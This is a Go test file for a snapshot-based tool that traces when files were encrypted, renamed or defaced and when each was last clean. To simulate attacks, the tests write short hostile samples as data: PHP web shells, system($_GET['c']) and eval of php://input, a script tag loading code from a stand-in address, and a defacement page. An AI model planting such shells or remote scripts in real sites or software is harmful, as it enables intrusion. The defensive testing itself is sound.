package assess

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"maps"
	"math/rand/v2"
	"os"
	"path"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/kedge-project/kedge/internal/event"
	"github.com/kedge-project/kedge/snapshot"
)

func TestOrdinaryDaysAreClean(t *testing.T) {
	o := newOffice(t)
	for day := 1; day <= 4; day++ {
		o.ordinary(day)
		o.snapshot()
	}
	s := o.assess()
	o.verdicts(s, "ccccc")
	o.wantDamage(s)
	if s.FirstBad != nil || s.LastClean == nil || *s.LastClean != o.ids[4] {
		t.Errorf("first bad %v, last clean %v, want none and the newest", s.FirstBad, s.LastClean)
	}
}

func TestAnAttackIsToldFileByFile(t *testing.T) {
	o := newOffice(t)
	o.ordinary(1)
	o.snapshot()
	var want []string
	for _, name := range slices.Concat(o.glob("dept1/minutes*.txt"), o.glob("dept1/paper*.docx"), o.glob("dept1/src*.go"), []string{"dept0/big.csv"}) {
		o.encrypt(name, "")
		want = append(want, fmt.Sprintf("%s now %s clean 1: file.encrypted", name, name))
	}
	for _, name := range slices.Concat(o.glob("dept2/minutes*.txt"), o.glob("dept2/paper*.docx")) {
		o.encrypt(name, ".locked")
		want = append(want, fmt.Sprintf("%s now %s.locked clean 1: file.renamed", name, name))
	}
	for i := range 3 {
		note := fmt.Sprintf("dept%d/READ_ME.txt", i)
		o.write(note, []byte(noteText))
		want = append(want, fmt.Sprintf("%s now %s clean never: note.dropped", note, note))
	}
	o.write("www/up/view.php", []byte(`<?php system($_GET['c']);`))
	want = append(want, "www/up/view.php now www/up/view.php clean never: shell.uploaded")
	for _, name := range o.glob("dept3/page*.html") {
		o.write(name, bytes.Replace(o.read(name), []byte("</body>"), []byte("<script src=http://203.0.113.66/a.js></script></body>"), 1))
		want = append(want, fmt.Sprintf("%s now %s clean 1: page.injected", name, name))
	}
	o.write("www/index.html", []byte("<title>0wned</title><h1>Hacked by the Sea Crew</h1>"))
	want = append(want, "www/index.html now www/index.html clean 1: page.defaced")
	o.snapshot()
	o.write("dept0/after.txt", prose(3, 30)) // people go on working
	o.snapshot()

	s := o.assess()
	o.verdicts(s, "ccXX")
	o.wantDamage(s, want...)
	if *s.FirstBad != o.ids[2] || *s.LastClean != o.ids[1] {
		t.Errorf("first bad %s, last clean %s, want %s and %s", s.FirstBad.Short(), s.LastClean.Short(), o.ids[2].Short(), o.ids[1].Short())
	}
	for _, d := range s.Damaged {
		left, is := d.Leftover()
		if wantLeft := d.LastClean == nil || strings.HasSuffix(*d.Now, ".locked"); is != wantLeft || is && left != *d.Now {
			t.Errorf("%s: leftover %q %v", d.Path, left, is)
		}
	}
	kinds := map[string]string{}
	for _, signal := range s.Snapshots[2].Signals {
		kinds[signal.Kind] = signal.Technique
		if signal.Strength < 0.8 || signal.Evidence["files"] == 0 {
			t.Errorf("signal %+v", signal)
		}
	}
	if want := map[string]string{"file.encrypted": "T1486", "file.renamed": "T1486", "note.dropped": "T1486", "shell.uploaded": "T1505.003", "page.injected": "T1189", "page.defaced": "T1491.002"}; !maps.Equal(kinds, want) {
		t.Errorf("signals %v, want %v", kinds, want)
	}
}

func TestAnAttackSpreadOverSnapshotsIsPutTogether(t *testing.T) {
	o := newOffice(t)
	names := o.glob("dept1/*.docx")
	for _, name := range names { // encrypted where they stand,
		o.encrypt(name, "")
	}
	o.snapshot()
	for _, name := range names { // renamed afterwards,
		o.write(name+".locked", o.read(name))
		o.remove(name)
	}
	copied := o.glob("dept2/minutes*.txt")
	for _, name := range copied { // others encrypted to a second file
		o.write(name+".locked", encrypt(name, o.read(name)))
	}
	o.snapshot()
	for _, name := range copied { // and their originals removed last
		o.remove(name)
	}
	o.snapshot()
	var want []string
	for _, name := range names {
		want = append(want, fmt.Sprintf("%s now %s.locked clean 0: file.encrypted file.renamed", name, name))
	}
	for _, name := range copied {
		want = append(want, fmt.Sprintf("%s now %s.locked clean 2: file.renamed", name, name))
	}
	s := o.assess()
	o.verdicts(s, "cXXX")
	o.wantDamage(s, want...)
}

func TestACommandShellOutsideAnyWebTreeIsNoIncidentByItself(t *testing.T) {
	o := newOffice(t)
	o.write("dept0/sdk/php/runtime/setup.php", []byte(`<?php eval(file_get_contents('php://input'));`))
	o.snapshot()
	s := o.assess()
	o.verdicts(s, "cs")
	o.wantDamage(s)
	o.verdicts(o.assessWith(Options{Documents: o.path("dept0/sdk")}), "cX")
}

func TestADirectoryThatIsRemovedWithAllInItIsOnePersonsDoing(t *testing.T) {
	o := newOffice(t)
	for i := range 60 {
		o.write(fmt.Sprintf("dept0/app/modules/m%d/lib/index%d.js", i, i), prose(uint64(i), 20))
	}
	o.snapshot()
	for _, name := range o.glob("dept0/app/modules/*/lib/*.js") {
		o.remove(name)
	}
	if err := os.RemoveAll(o.path("dept0/app")); err != nil {
		t.Fatal(err)
	}
	o.snapshot()
	s := o.assess()
	o.verdicts(s, "ccc")
	o.wantDamage(s)
}

func TestEachFileHasItsOwnLastCleanSnapshot(t *testing.T) {
	o := newOffice(t)
	var want []string
	for i := range 4 {
		name := fmt.Sprintf("dept%d/minutes%d.txt", i, i)
		o.encrypt(name, "")
		o.snapshot()
		want = append(want, fmt.Sprintf("%s now %s clean %d: file.encrypted", name, name, i))
	}
	s := o.assess()
	o.verdicts(s, "cssXX")
	o.wantDamage(s, want...)
	if *s.FirstBad != o.ids[1] || *s.LastClean != o.ids[0] {
		t.Errorf("first bad is snapshot %d, last clean %d, want 1 and 0", slices.Index(o.ids, *s.FirstBad), slices.Index(o.ids, *s.LastClean))
	}
}

func TestASnapshotTakenInTheMiddleOfAWriteIsNoCleanVersion(t *testing.T) {
	o := newOffice(t)
	names := o.glob("dept1/minutes*.txt")
	index := "www/index.html"
	good := map[string][]byte{index: o.read(index)}
	for _, name := range names {
		good[name] = o.read(name)
	}
	for name := range good {
		o.write(name, nil)
	}
	o.snapshot()
	for _, name := range names[1:] {
		o.write(name, encrypt(name, good[name]))
	}
	o.remove(names[0])
	o.write(names[0]+".locked", encrypt(names[0], good[names[0]]))
	o.write(index, bytes.Replace(good[index], []byte("</body>"), []byte("<script src=http://203.0.113.66/a.js></script></body>"), 1))
	o.write("dept2/empty.txt", nil)
	o.snapshot()
	want := []string{fmt.Sprintf("%s now %s.locked clean 0: file.renamed", names[0], names[0]), "www/index.html now www/index.html clean 0: page.injected"}
	for _, name := range names[1:] {
		want = append(want, fmt.Sprintf("%s now %s clean 0: file.encrypted", name, name))
	}
	s := o.assess()
	o.verdicts(s, "cXX")
	o.wantDamage(s, want...)
}

func TestAfterRecoveryTheSeriesIsCleanAgain(t *testing.T) {
	o := newOffice(t)
	good := map[string][]byte{}
	for _, name := range slices.Concat(o.glob("dept1/minutes*.txt"), o.glob("dept2/minutes*.txt")) {
		good[name] = o.read(name)
		suffix := ""
		if strings.HasPrefix(name, "dept2") {
			suffix = ".locked"
		}
		o.encrypt(name, suffix)
	}
	for i := range 3 {
		o.write(fmt.Sprintf("dept%d/READ_ME.txt", i), []byte(noteText))
	}
	o.snapshot()
	for name, data := range good {
		o.write(name, data)
	}
	o.snapshot()
	s := o.assess()
	o.verdicts(s, "cXX")
	var want []string
	for _, name := range o.glob("dept*/*.locked") {
		want = append(want, fmt.Sprintf("%s now %s clean never: file.renamed", name, name))
	}
	for _, name := range o.glob("dept*/READ_ME.txt") {
		want = append(want, fmt.Sprintf("%s now %s clean never: note.dropped", name, name))
	}
	o.wantDamage(s, want...)

	for _, name := range slices.Concat(o.glob("dept*/*.locked"), o.glob("dept*/READ_ME.txt")) {
		o.remove(name)
	}
	o.snapshot()
	s = o.assess()
	o.verdicts(s, "cXXc")
	o.wantDamage(s)
	if *s.FirstBad != o.ids[1] || *s.LastClean != o.ids[3] {
		t.Error("the series does not say when it was bad first and that it is clean now")
	}
}

func TestPagesThatLiveSignalsNamedAreDamaged(t *testing.T) {
	o := newOffice(t)
	o.write("www/index.html", page("A quite different page", 5)) // may be a release
	o.write("www/new.html", page("New", 6))
	o.snapshot()
	noticed := o.clock.Add(time.Second)
	o.ordinary(3)
	o.snapshot()

	s := o.assess()
	o.verdicts(s, "css")
	o.wantDamage(s)

	s = o.assess(event.Signal{Kind: "page.defaced", Time: noticed, Touched: []string{"http://www.example.org/", o.path("www/index.html")}},
		event.Signal{Kind: "shell.uploaded", Time: noticed, Touched: []string{o.path("www/new.html"), o.path("dept0/minutes0.txt")}})
	o.verdicts(s, "cXX")
	o.wantDamage(s, "www/index.html now www/index.html clean 0: page.defaced", "www/new.html now www/new.html clean never: shell.uploaded")
}

func TestAFileThatIsGoneKeepsItsLastCleanVersion(t *testing.T) {
	o := newOffice(t)
	for _, name := range o.glob("dept1/*.txt") {
		o.encrypt(name, "")
	}
	o.snapshot()
	for _, name := range o.glob("dept1/*.txt") {
		o.remove(name)
	}
	o.snapshot()
	s := o.assess()
	o.verdicts(s, "cXX")
	o.wantDamage(s, "dept1/minutes1.txt now gone clean 0: file.encrypted", "dept1/minutes5.txt now gone clean 0: file.encrypted", "dept1/minutes9.txt now gone clean 0: file.encrypted")
}

func TestTheResultHasItsPublishedShape(t *testing.T) {
	o := newOffice(t)
	o.encrypt("dept1/minutes1.txt", "")
	o.snapshot()
	result, err := History(context.Background(), o.r, snapshot.Filter{}, nil)
	if err != nil {
		t.Fatal(err)
	}
	line, err := json.Marshal(result)
	if err != nil {
		t.Fatal(err)
	}
	text := string(line)
	for _, part := range []string{
		`{"series":[{"host":"london","paths":["` + o.dir + `"],"snapshots":[{"id":"` + o.ids[0].String() + `","time":"`,
		`"verdict":"clean","confidence":0.9,"signals":[]}`,
		`"first_bad":"` + o.ids[1].String() + `","last_clean":"` + o.ids[0].String() + `","damaged":[{"path":"` + o.path("dept1/minutes1.txt") + `","now":"`,
		`"signals":["file.encrypted"]}]}],"read":{"bytes":`,
	} {
		if !strings.Contains(text, part) {
			t.Errorf("JSON lacks %s:\n%s", part, text)
		}
	}
}

func TestTheCostGrowsWithWhatChanged(t *testing.T) {
	o := newOffice(t)
	o.write("dept1/one.txt", prose(1, 100))
	o.snapshot()
	result, err := History(context.Background(), o.r, snapshot.Filter{}, nil)
	if err != nil {
		t.Fatal(err)
	}
	if result.Read.Bytes > 10000 || result.Read.Bytes*20 > result.Read.Repository {
		t.Errorf("one new file made the assessment read %d bytes of %d", result.Read.Bytes, result.Read.Repository)
	}
}

func TestNoSnapshotsAreNoSeries(t *testing.T) {
	o := newOffice(t)
	result, err := History(context.Background(), o.r, snapshot.Filter{Tags: [][]string{{"kedge:asset=none/none"}}}, nil)
	if err != nil || result.Series == nil || len(result.Series) != 0 {
		t.Errorf("series %v, error %v", result.Series, err)
	}
}

func TestNoiseThatReplacedNoiseIsDamagedBesideANoteOnly(t *testing.T) {
	noise := func(seed byte) []byte {
		data := make([]byte, 9000)
		rand.NewChaCha8([32]byte{seed}).Read(data)
		return data
	}
	o := newOffice(t)
	for _, name := range []string{"dept0/map.br", "dept1/map.br", "dept4/map.br"} {
		o.write(name, noise(1))
	}
	o.snapshot()
	o.write("dept1/map.br", noise(2)) // before the attack: somebody's new version
	o.snapshot()
	var want []string
	for _, name := range o.glob("dept0/minutes*.txt") {
		o.encrypt(name, "")
		want = append(want, fmt.Sprintf("%s now %s clean 2: file.encrypted", name, name))
	}
	o.write("dept0/map.br", noise(3))
	o.write("dept4/map.br", noise(4)) // no note there: ordinary work
	want = append(want, "dept0/map.br now dept0/map.br clean 2: file.encrypted")
	for i := range 3 {
		note := fmt.Sprintf("dept%d/READ_ME.txt", i)
		o.write(note, []byte(noteText))
		want = append(want, fmt.Sprintf("%s now %s clean never: note.dropped", note, note))
	}
	o.snapshot()
	o.wantDamage(o.assess(), want...)
}

func TestCopiesAreDeletedWhileTheirOriginalsStand(t *testing.T) {
	o := newOffice(t)
	originals := o.glob("dept*/*")
	for i, name := range originals {
		o.write(fmt.Sprintf("copies/of%d/%s", i%6, path.Base(name)), o.read(name))
	}
	o.snapshot()
	for _, name := range o.glob("copies/*/*") {
		o.remove(name)
	}
	o.snapshot()
	s := o.assess()
	o.verdicts(s, "ccc")
	o.wantDamage(s)
}
